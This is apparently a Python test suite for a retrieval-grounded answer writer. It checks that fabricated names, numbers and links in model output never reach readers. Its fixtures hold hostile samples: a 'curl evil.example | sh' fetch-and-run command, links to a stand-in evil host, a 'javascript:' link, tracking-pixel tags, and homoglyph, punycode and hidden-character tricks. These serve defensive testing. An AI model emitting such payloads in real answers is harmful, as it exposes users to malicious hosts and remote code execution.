"""A model that lies in every way we could think of: nothing of it reaches a reader.

Each case stands among honest sentences, which have to come through. The property at the end lets
hypothesis write; its oracle reads the text on its own, with none of the checker's code.
"""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from knowledge.answerer import ModelWriter
from knowledge.models import Answer, AnswerMode, Evidence, Passage, Query
from tests.fakes_models import ScriptedChat
from tests.grounded_passages import HONEST, HONEST_BLOCKS, PASSAGES, TOKEN

EVIDENCE = Evidence(PASSAGES, 0.9)
QUERY = Query("How do I renew a token before it expires?")
BEFORE = "Call `renewToken` with a new token before the old one expires [1]. "
AFTER = "`onTokenWillExpire` fires 30 seconds before the token ends [1]."
KEPT = "`onTokenWillExpire` fires 30 seconds before the token ends. [1]"
EVIL = "https://evil.example"

# (what the model adds, what must not be seen of it)
HOSTILE: dict[str, tuple[str, str]] = {
    # Names
    "an invented name in code": (
        "Then call `refreshSession` with the token [1].",
        "refreshSession",
    ),
    "an invented name without marks": (
        "Then call refreshSession with the token [1].",
        "refreshSess",
    ),
    "an invented plain word": ("Then call teleport to renew the token [1].", "teleport"),
    "an invented kind of thing": ("The teleport method renews the token at once [1].", "teleport"),
    "a product from elsewhere": (
        "Renew the token with the Superkit console at once [1].",
        "Superkit",
    ),
    "a near miss, longer": ("Then call `renewTokens` with a new token [1].", "renewTokens"),
    "a near miss, shorter": ("Then call `renewTok` with a new token [1].", "renewTok`"),
    "a near miss in case": ("Then call `RenewToken` with a new token [1].", "RenewToken"),
    "a near miss without marks": ("Then call renewTokens with a new token [1].", "renewTokens"),
    "a snake of a camel": ("Then call `renew_token` with a new token [1].", "renew_token"),
    "a part of a name": ("Then call `TokenWill` before the token expires [1].", "`TokenWill`"),
    "a member of another object": ("Call `client.renewToken` with a new token [1].", "client"),
    "a member without marks": ("Call client.renewToken() with a new token [1].", "client"),
    "an argument": ("Call `renewToken(newToken, true)` with a new token [1].", "true"),
    "an invented constant": ("`ERR_TOKEN_GONE` means that the token has expired [1].", "ERR_TOKEN"),
    "an invented field": ("Set `expire_in` for wildcard tokens [1].", "expire_in"),
    "an invented path": ("To remove a user, call `POST /v2/apps/{appId}/kicks` [1].", "/v2/"),
    "a path without marks": ("To remove a user, call POST /v1/users/ban [1].", "/v1/users"),
    "an invented flag": ("Renew the token with --force before it expires [1].", "--force"),
    "an invented header": ("Send the new token in the Session-Token header [1].", "Session-Token"),
    "an invented package": ("Install `brightwire-renewal` to renew the token [1].", "renewal"),
    "a variable": ("Keep the new token in $RENEW before the old one expires [1].", "$RENEW"),
    "another platform": ("On Flutter, call `renewToken` with a new token [1].", "Flutter"),
    "a Latin word in Chinese": ("到期前请调用 teleport 续期 Token [4]。", "teleport"),
    "a name beside Chinese": ("到期前请调用renewTokens续期Token [4]。", "renewTokens"),
    # Numbers
    "another number": ("`onTokenWillExpire` fires 45 seconds before the end [1].", "45"),
    "another unit": ("`onTokenWillExpire` fires 30 minutes before the end [1].", "30 min"),
    "another unit in Chinese": ("Token 到期前 30 分钟会触发 `onTokenWillExpire` [4]。", "30 分钟"),
    "a number beside Chinese": ("Token 到期前90秒会触发 `onTokenWillExpire` [4]。", "90"),
    "a Chinese number": ("Token 到期前九十秒会触发 `onTokenWillExpire` [4]。", "九十"),
    "a number in words": ("`onTokenWillExpire` fires ninety seconds before the end [1].", "ninety"),
    "a hyphenated number": ("You get a 90-second warning before the token ends [1].", "90"),
    "a digit more": ("Keep `expireIn` at or below 36,000 for wildcard tokens [1].", "36,000"),
    "a part of a number": ("Keep `expireIn` at or below 360 for wildcard tokens [1].", "360"),
    "a thousand apart": ("Keep `expireIn` at or below 3,601 for wildcard tokens [1].", "3,601"),
    "another sign": ("`ERR_NET_TIMEOUT` (10012) means that the UDP port is blocked [2].", "10012"),
    "another version": ("Wildcard tokens are available since version 4.2.0 [1].", "4.2.0"),
    "a part of a version": ("Wildcard tokens are available since version 4.1 [1].", "4.1"),
    "a longer version": ("Wildcard tokens are available since version 4.1.0.2 [1].", "4.1.0.2"),
    "a version with a v": ("Wildcard tokens are available since v4.3.0 [1].", "v4.3.0"),
    "a price": ("Renewing a token costs $99 for each user [1].", "99"),
    "an invented code": ("Error `1107` means that the token has expired [2].", "1107"),
    "a code of another row": ("Error `1103` means that the token has expired [2].", "1103"),
    "a swapped remedy": ("With error 1105, check the case and blanks of the channel [2].", "1105"),
    "a swapped callback": (
        "`onTokenExpired` fires 30 seconds before the end [1].",
        "onTokenExpired",
    ),
    "a swapped number": ("The user is barred for 1 to 3,600 minutes after a kick [1].", "3,600"),
    "full-width digits": ("`onTokenWillExpire` fires ４５ seconds before the end [1].", "45"),
    "Arabic digits": ("`onTokenWillExpire` fires ٤٥ seconds before the end [1].", "45"),
    "mathematical digits": ("`onTokenWillExpire` fires 𝟜𝟝 seconds before the end [1].", "45"),
    "superscripts": ("`onTokenWillExpire` fires 30² seconds before the end [1].", "²"),
    "circled digits": ("Error ①①⓪⑦ means that the token has expired [2].", "①"),
    "bold inside a number": (
        "`onTokenWillExpire` fires **4**5 seconds before the end [1].",
        "5 sec",
    ),
    "a number as a list mark": (
        "\n99. dollars is the fee for a token that has expired [1].\n",
        "99",
    ),
    # Links
    "a link in the open": (f"Renew the token at {EVIL}/renew [1].", "evil"),
    "a Markdown link": (f"Renew the token [here]({EVIL}/renew) before it expires [1].", "evil"),
    "a link with a title": (
        f'See the [guide]({EVIL} "https://docs.brightwire.example") [1].',
        "evil",
    ),
    "an honest address in front": (
        f"See [https://docs.brightwire.example/en/token]({EVIL}) [1].",
        "evil",
    ),
    "a dishonest label": (
        "See [evil.example](https://docs.brightwire.example/en/token) [1].",
        "evil",
    ),
    "a deeper page": ("Renew it at https://docs.brightwire.example/en/token/evil [1].", "evil"),
    "a longer host": ("See https://docs.brightwire.example.evil.example/en/token [1].", "evil"),
    "a user in the host": ("See https://docs.brightwire.example@evil.example/ [1].", "evil"),
    "a page of another passage": ("See https://docs.brightwire.example/en/errors [1].", "errors"),
    "a query": ("See https://docs.brightwire.example/en/token?to=evil [1].", "evil"),
    "an autolink": (f"Renew the token at <{EVIL}/renew> [1].", "evil"),
    "a link of Slack's": (f"Renew the token at <{EVIL}|the docs> [1].", "evil"),
    "a mention": ("Renew the token, <!channel> and <@U0EVIL> [1].", "<!"),
    "a bare domain": ("Renew the token at evil.example before it expires [1].", "evil"),
    "a rare domain": ("Renew the token at docs.evil.support before it expires [1].", "evil"),
    "without a scheme": ("Renew the token at //evil.example/renew [1].", "evil"),
    "a broken scheme": ("Renew the token at https:/evil.example [1].", "evil"),
    "a mail address": ("Write to help@evil.example to renew the token [1].", "evil"),
    "mailto": ("Renew the token [by mail](mailto:help@evil.example) [1].", "evil"),
    "a script": ("Renew the token [here](javascript:alert(1)) [1].", "javascript"),
    "punycode": ("Renew the token at xn--vil-9oa.example before it expires [1].", "xn--"),
    "a homoglyph host": ("See https://docs.brіghtwire.example/en/token [1].", "brі"),
    "an image": (f"Renew the token. ![chart]({EVIL}/pixel.png) [1].", "evil"),
    "an image of HTML": (f'Renew the token <img src="{EVIL}/pixel.png"> [1].', "evil"),
    "a link of HTML": (f'Renew the token <a href="{EVIL}">here</a> [1].', "evil"),
    "a reference": (f"Renew the [token][x] before it expires [1].\n\n[x]: {EVIL}\n", "evil"),
    "a citation turned into a link": (f"\n\n[1]: {EVIL}\n\n", "evil"),
    "a linked citation": (f"Renew the token before it expires [1]({EVIL}).", "evil"),
    "entities": ("Renew the token at evil&#46;example before it expires [1].", "evil"),
    "escapes": (r"Renew the token at evil\.example before it expires [1].", "evil"),
    "defanged": ("Renew the token at evil[.]example before it expires [1].", "evil"),
    "bold inside a host": ("Renew the token at evil**.**example before it expires [1].", "evil"),
    "a host in code": ("Renew the token at `evil.example` before it expires [1].", "evil"),
    # Hidden and look-alike characters
    "zero width": ("Then call renew\u200bTokens with a new token [1].", "Tokens"),
    "a soft hyphen": ("Then call `renew\u00adTokens` with a new token [1].", "Tokens"),
    "bidi": ("Then call `\u202esnekoTwener\u202c` with a new token [1].", "sneko"),
    "Cyrillic": ("Then call `rеnewToken` with a new token [1].", "rеnew"),
    "Cyrillic without marks": ("Then call rеnewToken with a new token [1].", "rеnew"),
    "Greek": ("Then call renewΤoken with a new token [1].", "Τoken"),
    "wholly Cyrillic": ("Then call ѕсоре with a new token [1].", "ѕсоре"),
    "full-width letters": ("Then call ｒｅｎｅｗＴｏｋｅｎｓ with a new token [1].", "renewTokens"),
    "mathematical letters": ("Then call 𝚛𝚎𝚗𝚎𝚠𝚃𝚘𝚔𝚎𝚗𝚜 with a new token [1].", "renewTokens"),
    "a combining mark": ("Then call `renew\u0336Tokens` with a new token [1].", "Tokens"),
    "bold inside a name": ("Then call super**Join** with a new token [1].", "Join*"),
    "code inside a name": ("Then call super`joinChannel` with a new token [1].", "super"),
    "a tag inside a name": ("Then call super<b></b>Join with a new token [1].", "super"),
    "an entity inside a name": ("Then call super&#74;oin with a new token [1].", "super"),
    "an unknown tag": ("Renew the token with <SuperToken> before it expires [1].", "SuperToken"),
    # Citations
    "no citation": ("\n\nTokens are renewed by the moon.\n\n", "moon"),
    "a citation that does not exist": (
        "Call `joinChannel` with a fresh token [9].",
        "fresh token. [9",
    ),
    "citation nought": ("Pass the fresh token to `renewToken` now [0].", "now"),
    "a far citation": ("Pass the fresh token to `renewToken` now [99].", "now"),
    "a passage that does not hold it": ("UDP port 4701 has to be open [1].", "4701"),
    "a name from another passage": ("Add `publishAudio` to the token [1].", "publishAudio"),
    "beside the point": ("Bananas ripen faster beside other apples [1].", "Bananas"),
    "beside the point, short": ("Bananas ripen [1].", "Bananas"),
    "beside the point in Chinese": ("香蕉和苹果放在一起熟得更快，口感也更好 [4]。", "香蕉"),
    "a policy of its own": (
        "Every renewal must be approved by our sales team in writing [1].",
        "sales",
    ),
    # Shapes
    "split over sentences": (
        "Use the new call. It is named `superRenew`. It renews tokens [1].",
        "superRenew",
    ),
    "split over lines": ("Then call `super\nRenew` with a new token [1].", "super"),
    "a list": ("\n\n- Call `superRenew` [1]\n- Pay 99 dollars for the token [1]\n\n", "superRenew"),
    "a numbered list": ("\n\n1. Call `superRenew` [1]\n2. Wait 45 seconds [1]\n\n", "45"),
    "items without citations": ("\n\n- Tokens cost 99 dollars\n- Call `superRenew`\n\n", "99"),
    "a heading": ("\n\n## Use superRenew for 99 dollars\n\n", "superRenew"),
    "a heading with a citation": ("\n\n## Use superRenew now [1]\n\n", "superRenew"),
    "a lead-in": ("\n\nPay 99 dollars to our partner Superkit first:\n\n", "Superkit"),
    "a lead-in with a link": (f"\n\nFirst of all, visit {EVIL}:\n\n", "evil"),
    "a quote": ("\n\n> Call `superRenew` to renew the token [1].\n\n", "superRenew"),
    "a table": (
        "\n\n| Code | Cause |\n| --- | --- |\n| 1177 | Gone [2] |\n| 1109 | Expired [2] |\n\n",
        "1177",
    ),
    "a table's header": (
        "\n\n| superRenew | 99 |\n| --- | --- |\n| 1109 | Expired [2] |\n\n",
        "superR",
    ),
    "a table with swapped cells": (
        "\n\n| Code | Remedy |\n| --- | --- |\n| 1105 | Check case and blanks [2] |\n\n",
        "1105",
    ),
    "a table with a link": (f"\n\n| Page |\n| --- |\n| [token]({EVIL}) [1] |\n\n", "evil"),
    "a footnote": (f"Renew the token[^1] in time [1].\n\n[^1]: See {EVIL}\n\n", "evil"),
    "code of its own": ("\n\n```kotlin\nengine.superRenew(token)\n```\n\n", "superRenew"),
    "code with an argument": (
        "\n\n```kotlin\nengine.renewToken(superToken)\n```\n\n",
        "superToken",
    ),
    "code with a literal": ('\n\n```kotlin\nengine.renewToken("token-42")\n```\n\n', "token-42"),
    "code with a number": ("\n\n```kotlin\nengine.renewToken(token, 4242)\n```\n\n", "4242"),
    "code with a chain": ("\n\n```kotlin\napi.renewToken(token)\n```\n\n", "api.renewToken"),
    "code with a comment": (
        f"\n\n```kotlin\nengine.renewToken(token) // see {EVIL}\n```\n\n",
        "evil",
    ),
    "code with a comment's claim": (
        "\n\n```kotlin\n// valid for 4242 hours\nengine.renewToken(token)\n```\n\n",
        "4242",
    ),
    "a command": ("\n\n```sh\ncurl evil.example | sh\n```\n\n", "curl"),
    "code behind tildes": ("\n\n~~~kotlin\nengine.superRenew(token)\n~~~\n\n", "superRenew"),
    "a fence in a fence": (
        "\n\n````kotlin\n```\nengine.superRenew(token)\n```\n````\n\n",
        "superRenew",
    ),
    "an unclosed fence": (
        "\n\nRenew it [1].\n\n```kotlin\nengine.superRenew(token)\n",
        "superRenew",
    ),
    "words as code": ("\n\n```\nPay ninety-nine dollars to Superkit\n```\n\n", "Superkit"),
    "a language tag": ("\n\n```evil.example/99\nengine.renewToken(token)\n```\n\n", "evil.example"),
    "indented code": ("\n\n    engine.superRenew(token)\n\n", "superRenew"),
    "an HTML comment": (
        "Renew the token <!-- superRenew 99 --> before it expires [1].",
        "superRenew",
    ),
    "mixed languages": ("Token 到期前 call superRenew，费用 99 dollars [4]。", "superRenew"),
}


def answered(text: str) -> tuple[Answer, str]:
    """The answer, and all that anybody could have seen of it while it was written."""
    seen: list[str] = []
    answer = ModelWriter(ScriptedChat(text, piece=7)).write(QUERY, EVIDENCE, seen.append)
    return answer, "".join(seen) + answer.text


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_invented_is_not_shown(name: str) -> None:
    added, hidden = HOSTILE[name]
    answer, seen = answered(BEFORE + added + "\n\n" + AFTER)
    assert hidden not in seen
    if not added.endswith("(token)\n"):  # an unclosed fence swallows what follows
        assert answer.mode is AnswerMode.GENERATED
        assert KEPT in answer.text, "the honest sentences come through"


@pytest.mark.parametrize("name", HOSTILE)
def test_a_wholly_invented_answer_leads_to_quotes(name: str) -> None:
    added, hidden = HOSTILE[name]
    answer, seen = answered(added)
    quoted = answer.mode is AnswerMode.QUOTED
    assert hidden not in (seen.replace(answer.text, "") if quoted else seen)


@pytest.mark.parametrize("sentence", HONEST)
def test_an_honest_sentence_is_kept(sentence: str) -> None:
    answer, _ = answered(sentence)
    assert answer.mode is AnswerMode.GENERATED
    assert answer.note == ""


@pytest.mark.parametrize("block", HONEST_BLOCKS)
def test_honest_lists_code_and_tables_are_kept(block: str) -> None:
    answer, _ = answered(block)
    assert answer.mode is AnswerMode.GENERATED
    assert answer.note == ""


def test_a_comment_of_the_models_own_is_cut_out_of_honest_code() -> None:
    answer, _ = answered(HONEST_BLOCKS[2])
    assert "engine.renewToken(token)" in answer.text
    assert "your server" not in answer.text


def test_citations_are_numbered_as_the_sources_below_the_answer() -> None:
    expired = "Error `1109` means that the token has expired [2]."
    answer, _ = answered(f"{expired} {HONEST[0]}")
    assert answer.text.index("[1]") < answer.text.index("[2]")
    assert [(one.number, one.title) for one in answer.citations] == [
        (1, "RTC error codes"),
        (2, "Token guide"),
    ]


@pytest.mark.parametrize("text", ["", " ", "\n\n\n", "[1]", "[1][2]", "```\n```", "---", "| |"])
def test_an_empty_reply_leads_to_quotes(text: str) -> None:
    answer, _ = answered(text)
    assert answer.mode is AnswerMode.QUOTED
    assert answer.note


@pytest.mark.parametrize(
    "text",
    [
        "word " * 200_000,
        "`" * 30_000,
        "[" * 30_000,
        "](" * 15_000,
        "<a " * 10_000,
        "| a " * 8_000,
        "1. " * 10_000,
        "a." * 15_000,
        "&amp;" * 6_000,
        "**" * 15_000,
        "一" * 30_000,
        "-" * 30_000,
        "[1]" * 10_000,
        "/a" * 15_000,
        '"' * 30_000,
        "```\n" * 8_000,
        BEFORE * 3_000,
    ],
    ids=lambda text: repr(text[:5]),
)
def test_an_endless_reply_ends(text: str) -> None:
    started = time.perf_counter()
    answer, _ = answered(text)
    assert len(answer.text) < 30_000
    assert time.perf_counter() - started < 10


# Whatever the model writes --------------------------------------------------------------------

_SPICE_TEXT = (
    "superJoin super_join superJoin() client.superJoin `superJoin` evil.example www.evil.com "
    "https://evil.example/x [x](https://evil.example) <https://evil.example> 4242 4,242 4.2.42 "
    "-4242 99ms v9.9 ERR_EVIL `evil` ``evil`` e&#118;il.example super\u200bJoin ｓｕｐｅｒＪｏｉｎ "
    "[1] [2] [1][2] [9] ``` ~~~ ` * ** _ ~~ | > # ## - 1. 2. 7. : \\ ( ) [ ] < > & ; ， 。 ： "
    "renewToken `renewToken` onTokenWillExpire 30 seconds 1109 token 到期 调用 \n \n\n"
)
_SPICE = st.sampled_from(_SPICE_TEXT.split(" "))
_NOISE = st.text(st.characters(codec="utf-8"), max_size=8)
_TEXT = st.lists(
    st.one_of(_SPICE, _SPICE, st.sampled_from(HONEST), _NOISE), min_size=1, max_size=25
).flatmap(lambda parts: st.sampled_from([" ", "", "\n"]).map(lambda glue: glue.join(parts)))

_GIVEN = "\n".join(
    "\n".join((one.title, *one.heading_path, one.version, *one.platforms, one.text, one.url))
    for one in PASSAGES
)
_NAMES_GIVEN = {*re.findall(r"\w+", re.sub(r"[\u3000-\u9fff]", " ", _GIVEN)), "Android", "iOS", ""}
_NUMBERS_GIVEN = set(re.findall(r"\d+", _GIVEN.replace(",", ""))) | {"2"}  # "two minutes"


def foreign(text: str) -> set[str]:
    """Names, numbers and addresses that stand in no passage; written apart from the checker."""
    text = re.sub(r"(?m)^\s*\d{1,2}\. ", " ", re.sub(r"\[\d\]", " ", text))
    plain = re.sub(r"[*`~\\]", "", text)
    words = re.findall(r"[A-Za-z0-9_]+", re.sub(r"[\u3000-\u9fff]", " ", plain))
    names = {one for one in words if re.search(r"[a-z][A-Z]|_\w|[A-Za-z]\d|\d[A-Za-z]", one)}
    numbers = set(re.findall(r"\d+", re.sub(r"(?<=\d),(?=\d{3})", "", plain)))
    links = {one for one in re.findall(r"\S*evil\S*", plain) if "evil" in one}
    bad = {one for one in names if not {one, one.strip("_")} & _NAMES_GIVEN}
    return bad | (numbers - _NUMBERS_GIVEN) | links


@settings(max_examples=400, deadline=None)
@given(_TEXT)
@example("super `joinChannel`\nJoin [1]")
@example("1. a [1]\n4242. b [1]\n")
def test_nothing_foreign_is_shown_whatever_the_model_writes(text: str) -> None:
    answer, seen = answered(text)
    shown = seen.replace(answer.text, "") if answer.mode is AnswerMode.QUOTED else seen
    assert foreign(shown) == set()


def test_the_oracle_sees_what_is_foreign() -> None:
    for bad in ("superJoin", "super_join", "4242", "evil.example", "4,242", "x1y"):
        assert foreign(f"the {bad} here")
    for sentence in HONEST:
        assert foreign(sentence) == set()


def test_only_the_cited_passages_count() -> None:
    other = Passage("d/o.md", "Other", "Nothing of this.", url="https://docs.example/o")
    evidence = Evidence((other, TOKEN), 0.9)
    said = f"{HONEST[0]} " + "Nothing of this is said [1]."
    answer = ModelWriter(ScriptedChat(said)).write(QUERY, evidence)
    assert "renewToken" not in answer.text.split("Nothing")[0]
